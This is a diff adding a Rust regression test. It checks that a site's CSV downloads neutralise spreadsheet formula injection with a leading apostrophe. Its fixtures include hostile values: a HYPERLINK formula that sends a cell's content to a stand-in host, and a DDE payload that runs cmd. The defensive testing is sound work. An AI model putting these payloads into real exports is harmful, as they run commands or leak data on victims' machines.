@@ -76,3 +76,68 @@ fn security_headers_are_shipped_for_hosts_not_only_as_meta() {
     }
     assert!(pages > 10, "only {pages} pages");
 }
+
+/// Issue 15, item 7: a CSV cell whose text starts with `=`, `+`, `-` or `@` (or tab, CR) is
+/// evaluated as a formula when a journalist opens the download in a spreadsheet. Every such cell
+/// of every CSV now starts with an apostrophe (OWASP's rule), the data package says so, and the
+/// JSON keeps the exact text.
+#[test]
+fn csv_cells_that_start_a_formula_are_neutralised() {
+    let site = TestSite::minimal();
+    site.overlay(&fixtures().join("regressions/csv_cells_that_start_a_formula_are_neutralised"));
+    assert!(site.run(&["build", "--quiet"]).status.success());
+    let formula = |cell: &str| cell.trim_start().starts_with(['=', '+', '-', '@', '\t', '\r', '\0']);
+    let mut csv_files = 0;
+    for entry in walkdir::WalkDir::new(site.root().join("public/date")) {
+        let entry = entry.unwrap();
+        if entry.path().extension().is_none_or(|e| e != "csv") {
+            continue;
+        }
+        csv_files += 1;
+        let bytes = std::fs::read(entry.path()).unwrap();
+        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(&bytes[3..]);
+        for record in reader.records() {
+            for cell in record.unwrap().iter() {
+                assert!(!formula(cell), "{}: a cell starts a formula: {cell:?}", entry.path().display());
+            }
+        }
+    }
+    assert!(csv_files >= 5, "only {csv_files} CSV files");
+
+    let activities = site.read("public/date/activitati.csv");
+    let mut reader = csv::Reader::from_reader(activities.trim_start_matches('\u{feff}').as_bytes());
+    let row = reader.records().next().unwrap().unwrap();
+    let cells: Vec<&str> = row.iter().collect();
+    assert_eq!(
+        cells[1..16],
+        [
+            r#"'=HYPERLINK("http://example.com/?"&A1,"clic")"#,
+            "plan-droguri",
+            "Acțiune strategică I REDUCEREA CERERII DE DROGURI",
+            "'+40 de școli incluse în program",
+            "'-Dezvoltarea intervențiilor de prevenire",
+            "og-1-os1-m1",
+            "'@SUM(1+1)*cmd|' /C calc'!A0",
+            "'- ; - 2024",
+            "'-2022",
+            "'+anual",
+            "Centrul Regional de Prevenire, Evaluare și Consiliere Antidrog Cluj ; Direcția de Sănătate Publică Cluj ; Autoritățile administrației publice locale",
+            "",
+            "'=1+1",
+            "sna/prevenire-universala",
+            "",
+        ]
+    );
+
+    let json: serde_json::Value = serde_json::from_str(&site.read("public/date/planuri.json")).unwrap();
+    let plan = &json["plans"][0];
+    assert_eq!(plan["title"], r#"=HYPERLINK("http://example.com/?"&A1,"clic")"#);
+    let activity = &plan["objectives"][0]["activities"][0];
+    assert_eq!(activity["text"], "@SUM(1+1)*cmd|' /C calc'!A0");
+    assert_eq!(activity["indicators"], serde_json::json!(["-", "- 2024"]));
+    assert_eq!(activity["funding"], serde_json::json!(["=1+1"]));
+
+    let package: serde_json::Value = serde_json::from_str(&site.read("public/date/datapackage.json")).unwrap();
+    let description = package["description"].as_str().unwrap();
+    assert!(description.contains("apostrof"), "{description}");
+}
